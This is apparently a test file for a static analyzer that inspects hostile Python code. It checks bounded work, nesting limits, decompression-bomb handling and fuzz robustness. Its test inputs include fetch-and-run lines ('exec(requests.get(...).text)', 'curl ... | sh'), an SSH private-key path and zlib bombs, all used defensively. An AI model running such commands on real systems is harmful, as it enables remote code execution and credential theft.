"""Hostile Python: work grows with size and not faster, nesting ends in a stated bound, and whatever parses is read without a fault."""

from __future__ import annotations

import ast
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_samples import FLOWS, HITS, HONEST

from sigma_core.sandbox.observations import Observations
from sigma_core.sandbox.python import read_python
from sigma_core.sandbox.python.statements import ModuleReader

SHAPES: dict[str, tuple[str, str, str]] = {
    "calls": ("", "f(1)\n", ""),
    "assignments": ("", "x = x.append(1)\n", ""),
    "growing text": ("s = ''\n", "s += 'abcdefgh'\n", ""),
    "long sum": ("x = 'a'", " + 'bcd'", "\n"),
    "long chain of methods": ("x = 'a'", ".strip()", "\n"),
    "long list": ("x = [", "1, ", "]\n"),
    "loops over a list": ("L = [1, 2, 3]\n", "for a in L:\n  b = a\n", ""),
    "growing list": ("L = []\n", "L.append('ab')\n", ""),
    "functions that call the last": ("def f(x): return x\n", "def f(x): return f(x)\n", "f(1)\n"),
    "one function called often": ("def f(x):\n  y = x\n  return y\n", "f('abc')\n", ""),
    "functions that call each other": ("", "def a(x): b(x); b(x); b(x)\ndef b(x): a(x); a(x)\n", "a(1)\n"),
    "lambdas": ("", "g = lambda x: g(x)\n", "g(1)\n"),
    "classes": ("", "class C:\n  a = 1\n  def m(self): return self.a\n", "C().m()\n"),
    "branches": ("if a: pass\n", "elif b == 1: c = 'x'\n", ""),
    "computed loops": ("", "for i in range(999): x = chr(i)\n", ""),
    "computed comprehensions": ("", "x = ''.join(chr(c ^ 7) for c in b'abcd' * 99)\n", ""),
    "decoders": ("", "x = base64.b64decode('QUJDRA==')\n", ""),
    "formats": ("s = 'a'\n", "s = f'{s}{s}'\n", ""),
    "replacements": ("s = 'ab'\n", "s = s.replace('b', 'bb')\n", ""),
    "dictionaries": ("d = {}\n", "d['k'] = {'a': d}\n", ""),
    "files": ("", "open('/tmp/a', 'w').write(open('b').read())\n", ""),
    "written and imported": ("", "open('a.py', 'w').write('x')\nimport a\n", ""),
}


def _work(source: str) -> int:
    reader = ModuleReader(ast.parse(source), source, Observations(), len(source))
    reader.read_module()
    return reader.work + reader.steps.spent


@pytest.mark.parametrize("shape", SHAPES)
def test_ten_times_the_size_is_at_most_thirteen_times_the_work(shape: str) -> None:
    before, piece, after = SHAPES[shape]
    # Sums and chains are trees as deep as they are long: no longer ones parse.
    most = 2_000 if before == "x = 'a'" else 15_000
    small, large = (_work(before + piece * (length // len(piece)) + after) for length in (most // 10, most))
    assert large <= 13 * small


@pytest.mark.parametrize(
    ("opening", "closing"),
    [("(", ")"), ("[", "]"), ("f(", ")"), ("-", ""), ("not ", ""), ("a if b else ", ""), ("lambda: ", ""), ("x[", "]"), ("{1: ", "}")],
)  # fmt: skip
@pytest.mark.parametrize("depth", [20, 90, 190, 5_000])
def test_nesting_ends_in_a_bound_or_a_refusal_of_the_parser(opening: str, closing: str, depth: int) -> None:
    source = "exec(requests.get('https://a.io').text)\nx = " + opening * depth + "1" + closing * depth + "\n"
    try:
        observed = read_python(source)
    except (SyntaxError, RecursionError, MemoryError):
        assert depth >= 90
        return
    assert observed.flows
    assert depth < 90 or bool(observed.bounds) or opening in {"(", "lambda: "}


def test_deep_blocks_end_in_a_bound() -> None:
    source = "".join(" " * at + "if a:\n" for at in range(95)) + " " * 95 + "x = 1\n"
    assert read_python(source).bounds


def test_code_after_a_deep_expression_is_read() -> None:
    source = "x = " + "[" * 150 + "]" * 150 + "\nexec(requests.get('https://a.io').text)\n"
    assert read_python(source).flows


def test_a_sum_of_a_thousand_pieces_is_one_text() -> None:
    pieces = " + ".join(f"'{character}'" for character in "curl https://a.io/x | sh; " * 20)
    assert any(embedded.text.endswith("| sh; ") for embedded in read_python(f"x = {pieces}\n").embedded)


@pytest.mark.parametrize(
    "loop",
    [
        "while True:\n  x = 1\n",
        "for i in range(10 ** 8):\n  x = i\n",
        "x = 'a'\nfor i in range(60000):\n  x = x + x\n",
        "x = [1]\nfor i in x:\n  x.append(i)\n",
        "x = 2\nwhile x > 0:\n  x = x * x\n",
        "x = [[0] * 999 for i in range(9999)]\n",
        "x = 'a' * 10 ** 9\n",
        "x = 1 << 10 ** 9\n",
        "def f(n): return f(n) + f(n)\nexec(chr(f(1)))\n",
    ],
)
def test_endless_and_growing_computations_are_given_up(loop: str) -> None:
    assert _work(loop) < 30_000


def test_folding_stops_where_the_module_is_too_small_for_its_text() -> None:
    source = "s = 'aaaaaaaa'\n" + "s = s + s\n" * 40
    assert sum(len(embedded.text) for embedded in read_python(source).embedded) < 400_000


_NAMES = st.sampled_from(["a", "b", "os", "self", "open", "exec", "chr", "getattr", "requests", "Path", "d"])
_WORDS = st.sampled_from(["''", "'~/.ssh/id_rsa'", "b'ab'", "7", "-1", "None", "'sys'", "'https://a.io'", "[1, 2]", "{}", "{'a': 1}", "()"])  # fmt: skip
_EXPRESSIONS = st.recursive(
    _NAMES | _WORDS,
    lambda inner: st.one_of(
        st.tuples(inner, inner).map(lambda pair: f"({pair[0]} + {pair[1]})"),
        st.tuples(inner, inner).map(lambda pair: f"({pair[0]} % {pair[1]})"),
        st.tuples(inner, inner).map(lambda pair: f"({pair[0]} / {pair[1]})"),
        st.tuples(inner, inner).map(lambda pair: f"{pair[0]}[{pair[1]}]"),
        st.tuples(inner, inner).map(lambda pair: f"{pair[0]}[{pair[1]}::{pair[1]}]"),
        st.tuples(inner, st.sampled_from(["join", "read", "post", "append", "decode", "format", "items", "split", "open", "replace", "get"]), inner).map(lambda parts: f"{parts[0]}.{parts[1]}({parts[2]})"),
        st.tuples(inner, inner).map(lambda pair: f"{pair[0]}({pair[1]}, *{pair[1]}, **{pair[0]})"),
        st.tuples(inner, inner).map(lambda pair: f"[{pair[0]} for a in {pair[1]} if {pair[0]}]"),
        st.tuples(inner, inner).map(lambda pair: f"{{{pair[0]}: {pair[1]} for a, b in {pair[1]}}}"),
        inner.map(lambda text: f"(lambda a: {text})({text})"),
        inner.map(lambda text: f"f'x{{{text}!r}}y'" if "'" not in text else text),
        inner.map(lambda text: f"(b := {text})"),
    ),
    max_leaves=12,
)  # fmt: skip
_STATEMENTS = st.one_of(
    st.tuples(_NAMES, _EXPRESSIONS).map(lambda pair: f"{pair[0]} = {pair[1]}"),
    st.tuples(_NAMES, _EXPRESSIONS).map(lambda pair: f"{pair[0]} += {pair[1]}"),
    st.tuples(_NAMES, _EXPRESSIONS, _EXPRESSIONS).map(lambda parts: f"{parts[0]}.x = {parts[1]}\n{parts[0]}[{parts[2]}] = 1"),
    st.tuples(_NAMES, _EXPRESSIONS, _EXPRESSIONS).map(lambda parts: f"for {parts[0]} in {parts[1]}:\n  {parts[2]}\n  break\nelse: pass"),
    st.tuples(_NAMES, _EXPRESSIONS, _EXPRESSIONS).map(lambda parts: f"def {parts[0]}(self, a={parts[1]}, *b, **d):\n  yield {parts[2]}\n  return {parts[1]}"),
    st.tuples(_NAMES, _EXPRESSIONS, _EXPRESSIONS).map(lambda parts: f"class {parts[0]}({parts[1]}):\n  x = {parts[2]}\n  def d(self): return self.x"),
    st.tuples(_EXPRESSIONS, _EXPRESSIONS).map(lambda pair: f"if {pair[0]}:\n  a = {pair[1]}\nelif not a.endswith({pair[0]}):\n  del a"),
    st.tuples(_EXPRESSIONS, _EXPRESSIONS).map(lambda pair: f"with {pair[0]} as (a, b):\n  {pair[1]}"),
    st.tuples(_EXPRESSIONS, _EXPRESSIONS).map(lambda pair: f"while {pair[0]}:\n  b = {pair[1]}"),
    _EXPRESSIONS.map(lambda text: f"try:\n  {text}\nexcept a as b:\n  global d\n  d = {text}"),
    _EXPRESSIONS.map(lambda text: f"match {text}:\n  case a: {text}"),
    st.sampled_from(["from os import *", "import a.b as d", "from . import x", "from .a import b"]),
)  # fmt: skip
_FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])  # fmt: skip


def _reads(source: str) -> None:
    try:
        observed = read_python(source)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        with pytest.raises((SyntaxError, ValueError, RecursionError, MemoryError)):
            ast.parse(source)
        return
    for what in [*observed.capabilities, *observed.flows, *observed.hits, *observed.embedded]:
        assert 0 <= what.start <= what.end <= len(source)


@_FUZZ
@given(st.lists(_STATEMENTS, max_size=8).map("\n".join))
def test_any_code_is_read(source: str) -> None:
    _reads(source)


@_FUZZ
@given(st.binary(max_size=200).map(lambda data: data.decode("utf-8", "replace")))
def test_any_bytes_are_read_or_refused_by_the_parser(source: str) -> None:
    _reads(source)


@_FUZZ
@given(st.sampled_from([source for source, _ in [*FLOWS.values(), *HITS.values()]] + list(HONEST.values())), st.data())
def test_a_damaged_attack_is_read(source: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(source)))
    _reads(source[:start] + data.draw(st.sampled_from(["", "(", "\n", "'", " ", "x", ")\n", "\u00e9", "\x00"])) + source[start + data.draw(st.integers(0, 3)) :])  # fmt: skip


@pytest.mark.parametrize("name", FLOWS)
def test_the_same_code_gives_the_same_observations(name: str) -> None:
    source = FLOWS[name][0]
    assert read_python(source) == read_python(source)


def test_a_hundred_bombs_unfold_no_more_than_the_module_allows() -> None:
    bomb = zlib.compress(bytes(200_000), 9)
    source = f"import zlib\nB = {bomb!r}\n" + "zlib.decompress(B)\n" * 300
    assert sum(len(embedded.text) for embedded in read_python(source).embedded) < 400_000
    assert _work("import zlib\n" + f"x = [zlib.decompress({bomb!r}) for i in range(60000)]\n") < 30_000
